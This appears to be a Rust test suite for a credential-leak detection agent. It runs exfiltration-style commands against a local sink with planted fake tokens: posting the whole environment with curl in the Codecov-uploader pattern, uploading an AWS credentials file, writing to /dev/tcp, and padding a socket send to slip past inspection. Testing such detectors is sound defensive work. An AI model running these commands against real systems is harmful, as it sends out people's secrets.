//! Credentials that leave in clear text, and sends that carry none.

use super::{count, goes_to, sent};
use crate::{
    agent::Agent,
    command::{act, sh},
    events::{Ask as _, list, of_kind},
    machine::{Scratch, patience, turn, wait_for},
    plant,
    server::Sink,
};
use std::{collections::BTreeSet, path::Path};

/// The Codecov uploader's act: a whole environment posted in clear text.
pub fn environment_posted_in_clear() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let planted = [
        plant::github(),
        plant::npm(),
        plant::stripe(),
        plant::anthropic(),
        plant::slack(),
    ];
    let mut act =
        sh("curl -s -d \"$(env)\" http://127.0.0.1:$1/upload/v2; :").arg(sink.port.to_string());
    for token in &planted {
        act = act.env(token.name, &token.value);
    }
    // With PATH and LANG thirty variables.
    for (name, value) in plant::gitlab_like_noise() {
        act = act.env(name, value);
    }
    let done = act.run().ok();
    for token in &planted {
        assert!(sink.has(&token.value), "{} never arrived", token.name);
    }
    assert!(sink.has("POST /upload/v2"));
    wait_for("five sends", patience(10), || {
        (sent(&agent, done.pid).len() >= 5).then_some(())
    });
    agent.wait_idle();
    let events = agent.tree(done.pid);
    let sent = sent(&agent, done.pid);
    count(&sent, 5, "sends");

    // Fingerprints are known by the exposures: which variable is which credential.
    let of = |name: &str| -> BTreeSet<String> {
        of_kind(&events, "credential_exposed")
            .iter()
            .filter(|e| e.env_name() == name)
            .map(|e| e.fingerprint().to_owned())
            .collect()
    };
    for token in &planted {
        let known = of(token.name);
        assert_eq!(
            known.len(),
            1,
            "{} is one credential: {known:?}",
            token.name
        );
        let event = sent
            .iter()
            .find(|e| known.contains(e.fingerprint()))
            .unwrap_or_else(|| panic!("{} was not seen to leave:\n{}", token.name, list(&sent)));
        let text = event.brief();
        assert_eq!(event.grade(), "observed", "{text}");
        assert_eq!(event.channel(), "tcp", "{text}");
        assert_eq!(event.transform(), "raw", "{text}");
        assert_eq!(event.found_by(), "socket", "{text}");
        assert!(event.executable().ends_with("/curl"), "{text}");
        assert!(matches!(event.source_type(), "env" | "argv"), "{text}");
        assert!(event.attack.contains(&"T1041".to_owned()), "{text}");
        goes_to(event, &["127.0.0.1"], sink.port);
    }
    // Nothing else of the thirty variables is taken for a credential.
    let others: BTreeSet<String> = of_kind(&events, "credential_exposed")
        .iter()
        .filter(|e| e.source_type() == "env")
        .map(|e| e.env_name().to_owned())
        .filter(|name| planted.iter().all(|t| t.name != name))
        .collect();
    assert!(others.is_empty(), "taken for credentials: {others:?}");
}

/// A holder that sends other bytes: lineage, and no word more.
pub fn holder_sends_other_bytes() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let done = sh("curl -s -d hello=world http://127.0.0.1:$1/other; :")
        .arg(sink.port.to_string())
        .env("GITHUB_TOKEN", &token.value)
        .run()
        .ok();
    assert!(sink.has("hello=world"));
    agent.expect("lineage", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid)
    });
    agent.wait_idle();
    let sent = sent(&agent, done.pid);
    count(&sent, 1, "sends");
    let text = sent[0].brief();
    assert_eq!(sent[0].grade(), "lineage", "{text}");
    assert_eq!(sent[0].transform(), "", "{text}");
    assert_eq!(sent[0].env_name(), "GITHUB_TOKEN", "{text}");
    assert!(
        sent[0].evidence.as_ref().unwrap().payload_bytes > 50,
        "{text}"
    );
    goes_to(&sent[0], &["127.0.0.1"], sink.port);
}

/// A process that holds nothing and sends noise: nothing.
pub fn stranger_sends_noise() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let done =
        sh("head -c 100000 /dev/urandom | curl -s --data-binary @- http://127.0.0.1:$1/noise; :")
            .arg(sink.port.to_string())
            .run()
            .ok();
    wait_for("the noise", patience(5), || {
        sink.received()
            .iter()
            .any(|bytes| bytes.len() > 100_000)
            .then_some(())
    });
    agent.wait_idle();
    let about: Vec<_> = agent
        .tree(done.pid)
        .into_iter()
        .filter(|e| e.what().starts_with("credential_"))
        .collect();
    count(&about, 0, "events about a stranger");
}

/// What was read from a file goes down a pipe through other programs: the one that sends is a holder by inheritance
/// or by the bytes it sends, and the file is named.
pub fn read_file_sent_by_the_reader() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
    let agent = Agent::start(&scratch);
    let done = sh("curl -s --data-binary @\"$2\" http://127.0.0.1:$1/take; :")
        .arg(sink.port.to_string())
        .arg(&file)
        .run()
        .ok();
    assert!(sink.has(&planted.value));
    agent.expect("the send", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid)
    });
    agent.wait_idle();
    let sent = sent(&agent, done.pid);
    count(&sent, 1, "sends");
    let text = sent[0].brief();
    assert_eq!(sent[0].grade(), "observed", "{text}");
    assert!(sent[0].shows(&planted), "{}", sent[0].brief());
    assert_eq!(Path::new(sent[0].path()), file, "{text}");
    goes_to(&sent[0], &["127.0.0.1"], sink.port);
}

/// One send of more than what is inspected, with the secret behind that: nobody can say that it was not sent.
pub fn longer_than_what_is_inspected() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::silent();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let script = "import os,socket,sys
s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))
s.sendall(b'x'*200000+os.environ['GITHUB_TOKEN'].encode())";
    let done = act("/usr/bin/python3")
        .args(["-c", script])
        .arg(sink.port.to_string())
        .env(token.name, &token.value)
        .run()
        .ok();
    let sent = agent.expect("the send", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid)
    });
    assert_eq!(sent.grade(), "lineage", "{}", sent.brief());
    let cut = sent.truncation.as_ref().is_some_and(|t| t.payload);
    assert!(cut && !sent.coverage.is_empty(), "{}", sent.brief());
    let evidence = sent.evidence.as_ref().unwrap();
    assert!(
        (65_536..200_000).contains(&evidence.inspected_bytes),
        "{}",
        sent.brief()
    );
    // Reported at most every ten seconds.
    wait_for("the gap", patience(20), || {
        agent
            .events()
            .into_iter()
            .find(|e| e.reason() == "payload_truncated")
    });
}

/// A file that nobody named, read for the first time by a process that is another program, or has a child that sends,
/// right afterwards: the read is the reader's, and what the child sends is seen.
pub fn found_in_a_file_and_used_at_once() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::silent();
    let place = scratch.make("srv");
    let mut tokens = Vec::new();
    for n in 0..6 {
        let token = plant::github();
        // No name that a rule knows.
        let file = place.join(format!("notes-{n}.txt"));
        std::fs::write(&file, format!("{}\n", token.value)).unwrap();
        tokens.push((token, file));
    }
    let agent = Agent::start(&scratch);
    let bash = |script: &str, file: &Path| {
        act("bash")
            .args(["-c", script, "bash"])
            .arg(file)
            .arg(sink.port.to_string())
            .run()
            .ok()
    };
    for (_, file) in &tokens[..3] {
        let done = bash("read -r T < \"$1\"; exec sleep 0.2", file);
        let read = agent.expect("the read", done.pid, |e| {
            e.is("credential_read") && Path::new(e.path()) == file
        });
        let process = read.process.as_ref().unwrap();
        assert_eq!(process.comm, "bash", "{}", read.brief());
    }
    for (token, file) in &tokens[3..] {
        let script = "read -r T < \"$1\"; (echo \"$T\" > /dev/tcp/127.0.0.1/$2); sleep 0.3";
        let done = bash(script, file);
        assert!(sink.has(&token.value));
        let sent = agent.expect("the send", done.pid, |e| {
            e.is("credential_sent") && e.in_tree(done.pid) && e.grade() == "observed"
        });
        assert_eq!(sent.credential_kind(), "github-token", "{}", sent.brief());
        goes_to(&sent, &["127.0.0.1"], sink.port);
    }
    agent.wait_idle();
    // And nobody else is said to have opened them.
    for (_, file) in &tokens {
        let file = file.to_str().unwrap();
        let opened: Vec<_> = agent
            .events()
            .into_iter()
            .filter(|e| e.is("credential_opened") && e.path() == file)
            .collect();
        count(&opened, 0, "opens");
    }
}

/// Two thousand requests of one kind: each is counted, the first are reported one by one, and the ledger's list of uses has all.
pub fn again_and_again() {
    const REQUESTS: u64 = 2_000;
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::silent();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let script = "exec 3<>/dev/tcp/127.0.0.1/$1; i=0; while [ $i -lt $2 ]; do \
        printf 'GET /status HTTP/1.1\\r\\nHost: api.example\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n' \"$GITHUB_TOKEN\" >&3; \
        i=$((i+1)); done";
    let done = act("bash")
        .args(["-c", script, "bash"])
        .arg(sink.port.to_string())
        .arg(REQUESTS.to_string())
        .env("GITHUB_TOKEN", &token.value)
        .run()
        .ok();
    let about = |events: &[crate::events::Event]| -> Vec<crate::events::Event> {
        let sent = of_kind(events, "credential_sent");
        sent.into_iter()
            .filter(|e| e.grade() == "observed")
            .collect()
    };
    let reported = wait_for("all of them", patience(20), || {
        let sent = about(&agent.tree(done.pid));
        let number: u64 = sent.iter().map(|e| e.stands_for()).sum();
        (number >= REQUESTS).then_some(sent)
    });
    let number: u64 = reported.iter().map(|e| e.stands_for()).sum();
    assert_eq!(number, REQUESTS);
    // Once more for each ten seconds that a slow machine took.
    assert!(
        (33..60).contains(&reported.len()),
        "{} events",
        reported.len()
    );
    let many = reported
        .iter()
        .find(|e| e.repeats.is_some())
        .expect("one of many");
    goes_to(many, &["127.0.0.1"], sink.port);
    assert_eq!(many.request.as_ref().unwrap().path, "/status");
    let uses = agent
        .client("uses")
        .args(["--credential", reported[0].fingerprint(), "-o", "json"])
        .run()
        .ok()
        .stdout_text();
    let counted: u64 = uses
        .lines()
        .map(|line| serde_json::from_str::<keytrail_proto::v1::Use>(line).unwrap())
        .filter(|one| one.grade == "observed" && one.channel == "tcp")
        .map(|one| one.count)
        .sum();
    assert_eq!(counted, REQUESTS, "{uses}");
}

/// Fifteen credentials in one send: fifteen events that say that they are of one.
pub fn one_send_is_one_group() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let agent = Agent::start(&scratch);
    let mut act = sh("printenv | grep TOKEN_ | curl -s --data-binary @- \"$1\"; :")
        .arg(format!("http://127.0.0.1:{}/in", sink.port));
    for n in 0..15 {
        act = act.env(format!("TOKEN_{n}"), plant::github().value);
    }
    let done = act.run().ok();
    agent.wait_idle();
    let mut sent = super::sent(&agent, done.pid);
    sent.retain(|e| e.grade() == "observed");
    super::count(&sent, 15, "sends");
    let first = sent
        .iter()
        .filter_map(|e| e.id.as_ref())
        .map(|id| id.sequence)
        .min();
    assert!(
        sent.iter().all(|e| Some(e.group) == first),
        "{:?} {}",
        sent.iter().map(|e| e.group).collect::<Vec<_>>(),
        crate::events::list(&sent)
    );
}
